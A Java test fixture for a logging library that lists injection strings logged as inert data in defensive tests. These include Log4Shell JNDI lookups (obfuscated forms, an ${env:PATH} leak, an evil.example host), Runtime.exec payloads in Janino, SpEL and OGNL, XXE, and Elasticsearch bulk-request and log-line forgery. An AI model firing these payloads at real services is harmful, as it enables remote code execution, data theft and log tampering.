package io.flightlog.testkit;

import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Texts by which logging libraries were broken into: each is data, and nothing else, to Flightlog.
 */
public final class HostileTexts {

  /** What it is known as, and the text. */
  public record Named(String name, String text) {
    @Override
    public String toString() {
      return name;
    }
  }

  private static final String[] PIECES = {
    "\n",
    "\r\n",
    "\r",
    "\u0000",
    "\u001b[31m",
    "\u009b2J",
    "\u202e",
    "\u2066",
    "\u2028",
    "\u2029",
    "\u0085",
    "\u007f",
    "\ufeff",
    "\ud800",
    "\udc00",
    "😀",
    "é",
    "\"",
    "\\",
    "\\u000a",
    "{",
    "}",
    "}}\n",
    "\"}\n",
    "\"}}\n{\"delete\":{\"_index\":\"logs\",\"_id\":\"1\"}}\n",
    "\",\"_index\":\".security\",\"x\":\"",
    "\\\",\\\"event.sequence\\\":0,\\\"",
    "../",
    "%0a",
    "%m%n",
    "${jndi:ldap://127.0.0.1/a}",
    "a",
    " ",
    ".",
    "..",
    "event.sequence",
    "_id",
    "__proto__"
  };

  private HostileTexts() {}

  /**
   * Lookups, patterns, scripts and markup that somebody once evaluated.
   *
   * @param port of a socket that would see what follows an address in them
   */
  public static List<Named> evaluated(int port) {
    String at = "127.0.0.1:" + port;
    List<Named> texts = new ArrayList<>();
    lookups(texts, at);
    add(texts, "CVE-2022-42889 script", "${script:javascript:java.lang.System.exit(1)}");
    add(texts, "CVE-2022-42889 url", "${url:UTF-8:http://" + at + "/a}");
    add(
        texts,
        "CVE-2021-42550 Logback's JNDI",
        "<insertFromJNDI env-entry-name='ldap://" + at + "/a'/>");
    add(
        texts,
        "CVE-2023-6378 serialized object",
        "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap");
    add(
        texts,
        "CVE-2024-12798 Janino",
        "return java.lang.Runtime.getRuntime().exec(\"id\") != null;");
    add(texts, "CVE-2024-12801 SSRF", "<!DOCTYPE a SYSTEM 'http://" + at + "/a.dtd'><a>&b;</a>");
    add(texts, "CVE-2026-34478 forged line", "x\r\n2026-01-01 00:00:00 ERROR root - forged");
    add(
        texts,
        "CVE-2026-34478 forged document",
        "x\"}\n{\"create\":{}}\n{\"message\":\"forged\"}\n");
    add(
        texts,
        "pattern layout",
        "%m{nolookups} %msg%n%xEx{full} %X{user.id} %replace(%m){'a','b'}");
    add(
        texts,
        "SpEL",
        "#{T(java.lang.Runtime).getRuntime().exec('id')} ${T(java.lang.Math).abs(1)}");
    add(texts, "OGNL", "%{(#a=@java.lang.Runtime@getRuntime().exec('id')).(#a)}");
    add(
        texts,
        "EL and templates",
        "${7*7} #{7*7} {{7*7}} {{#toJson}}x{{/toJson}} <%= 7*7 %> {0} %s");
    add(texts, "Elasticsearch", "<logs-{now/d}> ctx._source.remove('message') _all *");
    return texts;
  }

  private static void lookups(List<Named> texts, String at) {
    add(texts, "CVE-2021-44228", "${jndi:ldap://" + at + "/a}");
    add(
        texts,
        "CVE-2021-44228 rmi, dns, http",
        "${jndi:rmi://" + at + "/a} ${jndi:dns://" + at + "/a}");
    add(texts, "CVE-2021-44228 nested", "${${lower:j}ndi:${upper:l}${lower:d}ap://" + at + "/a}");
    add(
        texts,
        "CVE-2021-44228 obfuscated",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://" + at + "/a}");
    add(
        texts,
        "CVE-2021-44228 environment",
        "${${env:NO:-j}ndi${env:NO:-:}ldap://" + at + "/${env:PATH}}");
    add(
        texts,
        "CVE-2021-45046",
        "${jndi:ldap://127.0.0.1#evil.example:" + at.substring(10) + "/a} ${ctx:loop}");
    add(texts, "CVE-2021-45105", "${ctx:loop} ${${::-${::-$${::-j}}}}");
    add(
        texts,
        "CVE-2021-44832",
        "${jndi:java:comp/env/jdbc} ${sys:java.version} ${java:os} ${main:0}");
  }

  /** Anything that could end a line, a text or a name, and usually several such. */
  public static String random(SplittableRandom random) {
    StringBuilder text = new StringBuilder();
    for (int i = 1 + random.nextInt(random.nextInt(40) == 0 ? 300 : 6); i > 0; i--) {
      text.append(PIECES[random.nextInt(PIECES.length)]);
    }
    return text.toString();
  }

  private static void add(List<Named> texts, String name, String text) {
    texts.add(new Named(name, text));
  }
}
